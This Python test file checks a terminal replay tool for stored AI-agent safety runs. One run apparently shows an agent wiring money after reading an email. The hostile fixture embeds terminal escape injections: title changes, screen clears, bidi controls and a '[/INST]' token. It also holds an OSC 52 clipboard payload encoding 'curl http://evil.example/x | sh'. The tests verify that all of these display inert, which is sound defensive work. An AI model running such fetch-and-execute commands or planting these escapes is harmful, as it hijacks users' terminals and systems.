"""`sandbox replay --db URL` in a real terminal: tmux runs it, send-keys types, capture-pane reads the screen."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandbox.store import Store
from tests.stored_runs import HOSTILE_RUN, PAYROLL, WIRE, write_hostile_run, write_replay_runs

ROOT = Path(__file__).resolve().parent.parent
WAIT_S = 30.0


class Terminal:
    """One tmux server of our own (its own socket, no user config) holding one 120x40 window."""

    def __init__(self, tmp_path: Path) -> None:
        tmux = shutil.which("tmux")
        if tmux is None:
            pytest.fail("tmux is not installed: run `make test`, or `bash scripts/setup-test-tools.sh`", pytrace=False)
        self.tmux = [tmux, "-S", str(tmp_path / "tmux.sock"), "-f", "/dev/null"]
        # The server hands its environment to the app; a COLUMNS or LINES in it would fix textual's size.
        self.env = {name: value for name, value in os.environ.items() if name not in {"COLUMNS", "LINES"}}

    def start(self, command: str, **options: str) -> None:
        """Run `command` in the window; `options` are tmux's global options to set first (`set_clipboard="on"`)."""
        settings = [
            arg for name, value in options.items() for arg in ("set-option", "-g", name.replace("_", "-"), value, ";")
        ]
        self.run("start-server", ";", *settings, "new-session", "-d", "-x", "120", "-y", "40", "-c", str(ROOT), command)

    def run(self, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([*self.tmux, *args], capture_output=True, text=True, timeout=10, env=self.env)

    def screen(self) -> str:
        return self.run("capture-pane", "-p").stdout

    def wait_for(self, *texts: str) -> str:
        deadline = time.monotonic() + WAIT_S
        while True:
            screen = self.screen()
            if all(text in screen for text in texts):
                return screen
            if time.monotonic() > deadline:
                raise AssertionError(f"{texts} not on screen after {WAIT_S:g} s:\n{screen}")
            time.sleep(0.1)

    def press(self, *keys: str) -> None:
        self.run("send-keys", *keys)

    def is_open(self) -> bool:
        return self.run("has-session").returncode == 0

    def close(self) -> None:
        self.run("kill-server")


@pytest.fixture
def terminal(tmp_path: Path) -> Iterator[Terminal]:
    terminal = Terminal(tmp_path)
    yield terminal
    terminal.close()


def test_replay_runs_to_episode_steps_and_quit(tmp_path: Path, terminal: Terminal) -> None:
    url = f"sqlite:///{tmp_path / 'runs.db'}"
    store = Store(url)
    write_replay_runs(store)
    store.close()
    exit_file = tmp_path / "exit"
    replay = shlex.join([sys.executable, "-m", "sandbox", "replay", "--db", url])
    terminal.start(f"{replay}; echo $? > {shlex.quote(str(exit_file))}")

    # Each check waits for its text: the screen is read while the app may still be drawing.
    terminal.wait_for("baseline/refuse", "baseline/comply", "50% (1/2)", "100% (1/1)")
    terminal.press("Down", "Enter")
    terminal.wait_for("Run comply: baseline/comply on builtin", WIRE, PAYROLL, "UNSAFE", "Episodes 1 to 2 of 2")
    terminal.press("Enter")
    terminal.wait_for("Step 1", "Let me read Dana's email first.", "names step 2")
    terminal.press("n")
    terminal.wait_for("What step 2 changed", "bank.accounts[0].balance: 84200.0 →")

    terminal.press("q")
    deadline = time.monotonic() + WAIT_S
    while terminal.is_open() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not terminal.is_open(), "q should end sandbox replay"
    assert exit_file.read_text().strip() == "0"


def test_replay_shows_escapes_inert(tmp_path: Path, terminal: Terminal) -> None:
    """A run whose agent name, case id, answers, tool calls and results carry OSC 52, OSC 0, ESC [2J, OSC 8, C1 and
    bidi controls: on screen as their escapes, and the terminal's title and clipboard left alone."""
    url = f"sqlite:///{tmp_path / 'runs.db'}"
    store = Store(url)
    write_hostile_run(store)
    store.close()
    replay = shlex.join([sys.executable, "-m", "sandbox", "replay", HOSTILE_RUN, "--db", url])
    # tmux takes OSC 52 from the app as a paste buffer: a clipboard write that reached the terminal is seen there.
    terminal.start(replay, set_clipboard="on")
    title = terminal.run("display-message", "-p", "#{pane_title}").stdout

    terminal.wait_for("Run hostile: evil[/]agent\\x1b]0;pwned\\x07\\x9b2J on builtin", "case\\x1b]0;pwned\\x07[/]")
    terminal.press("Enter")
    terminal.wait_for(
        "Step 1", "\\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\\x1b\\", "\\x1b[2J", "\\x9b31m"
    )
    terminal.wait_for("→ read_email\\x1b]0;pwned\\x07  [call[/]]", "\\u202eevil[/] [/INST]")
    styled = terminal.run("capture-pane", "-p", "-e").stdout
    # Only the app's own colours are escapes in the pane: no OSC, no clear screen.
    assert "\x1b]" not in styled
    assert "\x1b[2J" not in styled
    assert terminal.run("display-message", "-p", "#{pane_title}").stdout == title, "the window title was changed"
    assert terminal.run("list-buffers").stdout == "", "an OSC 52 clipboard write reached the terminal"

    # The check sees a clipboard write: the app's own copy of a step (OSC 52 too) makes a buffer, holding the step.
    terminal.press("c")
    deadline = time.monotonic() + WAIT_S
    while not terminal.run("list-buffers").stdout and time.monotonic() < deadline:
        time.sleep(0.1)
    copied = terminal.run("show-buffer").stdout
    assert '"index": 0' in copied
    assert "curl http://evil.example" not in copied
    terminal.press("Escape", "q")
